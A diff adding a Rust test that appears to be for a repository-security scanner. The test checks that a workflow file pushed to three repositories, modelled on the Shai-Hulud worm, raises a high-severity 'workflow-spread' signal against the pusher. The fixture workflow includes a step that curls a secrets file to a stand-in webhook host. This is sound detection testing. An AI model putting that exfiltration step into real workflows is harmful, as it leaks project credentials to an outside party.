@@ -705,3 +705,79 @@ fn an_openpgp_signature_records_its_issuer_fingerprint() {
         .args(["--kill", "gpg-agent"])
         .output();
 }
+
+/// The Shai-Hulud pattern: one workflow file pushed to three repositories at once. The third
+/// scan raises `workflow-spread` about whoever pushed it (with the three commits as evidence),
+/// re-scans record nothing more, and `tools list` says the same under its table.
+#[test]
+fn one_workflow_pushed_to_three_repositories_at_once() {
+    const WORKFLOW: &str = ".github/workflows/shai-hulud-workflow.yml";
+    let sb = Sandbox::new();
+    let body = "on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: curl -d @secrets.json https://webhook.example/x\n";
+    let repos: Vec<Repo> = ["api", "web", "cli"]
+        .iter()
+        .map(|name| {
+            let r = sb.repo(name);
+            r.commit_file(ALICE, "README.md", "hello\n", "Start");
+            r.commit_file(BOB, WORKFLOW, body, "Add workflow");
+            r
+        })
+        .collect();
+    let spread = |sb: &Sandbox| -> Vec<Value> {
+        let v = sb.run(&["--format", "json", "signals", "--all"]).json();
+        v["groups"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .filter(|g| g["rule"] == "workflow-spread")
+            .flat_map(|g| g["signals"].as_array().unwrap().clone())
+            .collect()
+    };
+    sb.scan(&repos[0].path);
+    sb.scan(&repos[1].path);
+    assert!(spread(&sb).is_empty(), "two repositories are not a spread");
+    let third = sb.scan(&repos[2].path);
+    assert!(third["signals"]["signals_appended"].as_u64().unwrap() >= 1);
+    let found = spread(&sb);
+    assert_eq!(found.len(), 1, "{found:?}");
+    let s = &found[0];
+    assert_eq!(s["severity"], "high");
+    assert_eq!(s["paths"][0], WORKFLOW);
+    let mut commits: Vec<String> = s["commits"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|c| c.as_str().unwrap().to_owned())
+        .collect();
+    commits.sort();
+    let mut heads: Vec<String> = repos.iter().map(Repo::head).collect();
+    heads.sort();
+    assert_eq!(commits, heads);
+    assert!(
+        s["explanation"]
+            .as_str()
+            .unwrap()
+            .contains("was introduced in 3 repositories within 0 h"),
+        "{s}"
+    );
+    // The subject is the identity that pushed it (Bob), not a repository.
+    let shown = sb.run(&["signals"]);
+    shown.assert_code(0);
+    assert!(shown.stdout.contains("workflow-spread"), "{}", shown.stdout);
+    assert!(shown.stdout.contains("Bob Stone"), "{}", shown.stdout);
+    // Re-scans record nothing twice.
+    for r in &repos {
+        sb.scan(&r.path);
+    }
+    assert_eq!(spread(&sb).len(), 1);
+    let tools = sb.run(&["tools", "list"]);
+    tools.assert_code(0);
+    assert!(
+        tools
+            .stdout
+            .contains(&format!("{WORKFLOW} was introduced in 3 repositories")),
+        "{}",
+        tools.stdout
+    );
+    sb.assert_verifies();
+}
